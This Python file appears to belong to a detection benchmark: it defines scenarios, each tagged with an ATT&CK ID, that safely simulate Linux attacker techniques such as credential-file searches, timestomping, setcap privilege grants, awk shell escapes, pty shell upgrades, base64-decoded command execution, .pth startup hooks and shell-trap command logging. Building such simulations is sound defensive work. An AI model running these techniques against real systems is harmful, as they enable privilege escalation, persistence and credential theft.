@scenario("T1552.001", "find looks for cloud tokens and .netrc files", "credential_store_search")
def credential_store_find(work: Path) -> None:
    subprocess.run(["find", str(work), "-name", ".netrc", "-o", "-path", "*/.aws/credentials"], timeout=TIMEOUT,
                   stdout=subprocess.DEVNULL)


@scenario("T1070.006", "touch copies /bin/ls's timestamps onto a dropped file", "timestamp_forged")
def timestomp(work: Path) -> None:
    write(work / "dropped", "x")
    subprocess.run(["touch", "-acmr", "/bin/ls", str(work / "dropped")], timeout=TIMEOUT, check=True)


@scenario("T1560.001", "openssl encrypts collected data with a pass phrase on its command line",
          "staged_data_encrypted")
def encrypted_staging(work: Path) -> None:
    write(work / "loot.txt", "collected\n")
    subprocess.run([_tool(work, "openssl"), "enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:atomic", "-in",
                    str(work / "loot.txt"), "-out", str(work / "loot.enc")], timeout=TIMEOUT,
                   stderr=subprocess.DEVNULL)


@scenario("T1548.001", "setcap grants cap_setuid to a copy of a binary in the work dir", "capability_granted")
def capability_grant(work: Path) -> None:
    shutil.copy("/bin/true", work / "t")
    subprocess.run([_tool(work, "setcap"), "cap_setuid+ep", str(work / "t")], timeout=TIMEOUT,
                   stderr=subprocess.DEVNULL)


@scenario("T1059.004", "awk escapes to a shell (GTFOBins)", "shell_escape_from_program")
def shell_escape_awk(work: Path) -> None:
    subprocess.run(["awk", 'BEGIN {system("exec /bin/sh")}'], stdin=subprocess.DEVNULL, timeout=TIMEOUT,
                   stdout=subprocess.DEVNULL)


@scenario("T1059.006", "a python one-liner gives a shell a terminal (pty.spawn: the step after a reverse shell)",
          "interpreter_pty_shell")
def pty_shell_upgrade(work: Path) -> None:
    subprocess.run([sys.executable, "-c", "import pty; pty.spawn(['/bin/sh', '-c', 'id'])"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=TIMEOUT)


@scenario("T1053.006", "systemd-run schedules a transient timer (its time value is refused before any bus call)",
          "transient_systemd_job")
def transient_systemd_job(work: Path) -> None:
    subprocess.run([_tool(work, "systemd-run"), "--on-active=not-a-time", "/bin/true"], timeout=TIMEOUT,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@scenario("T1543.002", "systemctl links a unit file from /dev/shm (a path that does not exist: nothing is linked)",
          "systemd_unit_outside_unit_dirs")
def systemd_link_from_shm(work: Path) -> None:
    subprocess.run([_tool(work, "systemctl"), "link", f"/dev/shm/ravn-scn-{os.getpid()}-missing.service"],
                   timeout=TIMEOUT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)



# ------------------------------------------------------------------ classes the Atomic Red Team rerun found missing
@scenario("T1204.002", "a script without a #! line decoded into /tmp, made executable and run (ENOEXEC: the shell "
          "reads it itself; default prefixes)", "temp_file_made_executable_and_run")
def noshebang_script_in_tmp(work: Path) -> None:
    path = Path(f"/tmp/ravn-noshebang-{os.getpid()}")
    try:
        sh(f"echo dHJ1ZQo= | base64 -d > {path} && chmod +x {path} && {path}")
    finally:
        path.unlink(missing_ok=True)


@scenario("T1546.018", "a shell writes a .pth hook into a venv under /tmp (an exec-grant prefix; default prefixes)",
          "python_startup_hook_written")
def python_pth_hook_tmp_venv(work: Path) -> None:
    root = Path(f"/tmp/ravn-venv-{os.getpid()}")
    site = root / "env" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True, exist_ok=True)
    try:
        sh(f"echo 'import os; os.system(\"true\")' > {site}/zz_hook.pth")
    finally:
        shutil.rmtree(root, ignore_errors=True)


@scenario("T1036.008", "a shell script named image.png in /tmp handed to sh", "file_type_masquerade_run")
def image_named_script(work: Path) -> None:
    path = Path(f"/tmp/ravn-{os.getpid()}-image.png")
    try:
        path.write_text("#!/bin/sh\ntrue\n")
        sh(f"sh {path}")
    finally:
        path.unlink(missing_ok=True)


@scenario("T1140", "a python -c one-liner decodes a base64 command and runs it with os.system",
          "decoded_oneliner_executed")
def decoded_oneliner_exec(work: Path) -> None:
    subprocess.run(["/usr/bin/python3", "-c", "import base64,os; os.system(base64.b64decode('dHJ1ZQ==').decode())"],
                   timeout=TIMEOUT)


@scenario("T1560.002", "a python -c one-liner zips a system file into the work dir (archive via a library)",
          "interpreter_oneliner_archives_data")
def python_archive_oneliner(work: Path) -> None:
    work.mkdir(parents=True, exist_ok=True)
    subprocess.run(["/usr/bin/python3", "-c", f"from zipfile import ZipFile; "
                    f"ZipFile('{work}/h.zip', mode='w').write('/etc/hostname')"], timeout=TIMEOUT)


@scenario("T1222.002", "chown root:root of a file in a temp dir", "temp_file_given_to_root")
def chown_root_in_tmp(work: Path) -> None:
    path = Path(f"/tmp/ravn-chown-{os.getpid()}")
    try:
        path.write_text("x")
        sh(f"chown root:root {path}")
    finally:
        path.unlink(missing_ok=True)


@scenario("T1546.005", "bash -c sets an EXIT trap that starts a script with nohup", "shell_trap_runs_program")
def shell_trap_nohup(work: Path) -> None:
    script = fake_tool(work, "on-exit.sh", "true")
    subprocess.run(["/bin/bash", "-c", f'trap "nohup sh {script} >/dev/null 2>&1" EXIT'], timeout=TIMEOUT)


@scenario("T1056.001", "bash -c sets a DEBUG trap that appends every command ($BASH_COMMAND) to a file",
          "shell_command_logger")
def shell_debug_trap_logger(work: Path) -> None:
    work.mkdir(parents=True, exist_ok=True)
    subprocess.run(["/bin/bash", "-c", f"trap 'echo \"$BASH_COMMAND\" >> {work}/cmds' DEBUG; true; true"],
                   timeout=TIMEOUT)


@scenario("T1564.001", "mkdir of a hidden directory in /tmp (default config)", "hidden_dir_in_temp")
def hidden_dir_tmp(work: Path) -> None:
    path = Path(f"/tmp/.ravn-scn-{os.getpid()}")
    try:
        subprocess.run(["mkdir", str(path)], timeout=TIMEOUT)
    finally:
        shutil.rmtree(path, ignore_errors=True)

SCENARIOS["canary"] = Scenario("canary", "T1059", (), "harness readiness check", canary)
ATTACKS = [n for n in SCENARIOS if n != "canary"]


def main(argv: list[str]) -> int:
    if len(argv) == 3 and argv[0] == "run" and argv[1] in SCENARIOS:
        SCENARIOS[argv[1]].run(Path(argv[2]))
        return 0
    if len(argv) in (2, 3) and argv[0] == "benign":
        benign(Path(argv[1]))
        if len(argv) == 3 and argv[2]:  # more kinds from bench/benign.py: build, packages, admin, web, cron
            from bench import benign as more

            more.run(Path(argv[1]), kinds=more.parse_kinds(argv[2]))
        return 0
    print(f"usage: simulations.py run {{{','.join(SCENARIOS)}}} WORKDIR | benign WORKDIR [KINDS]", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
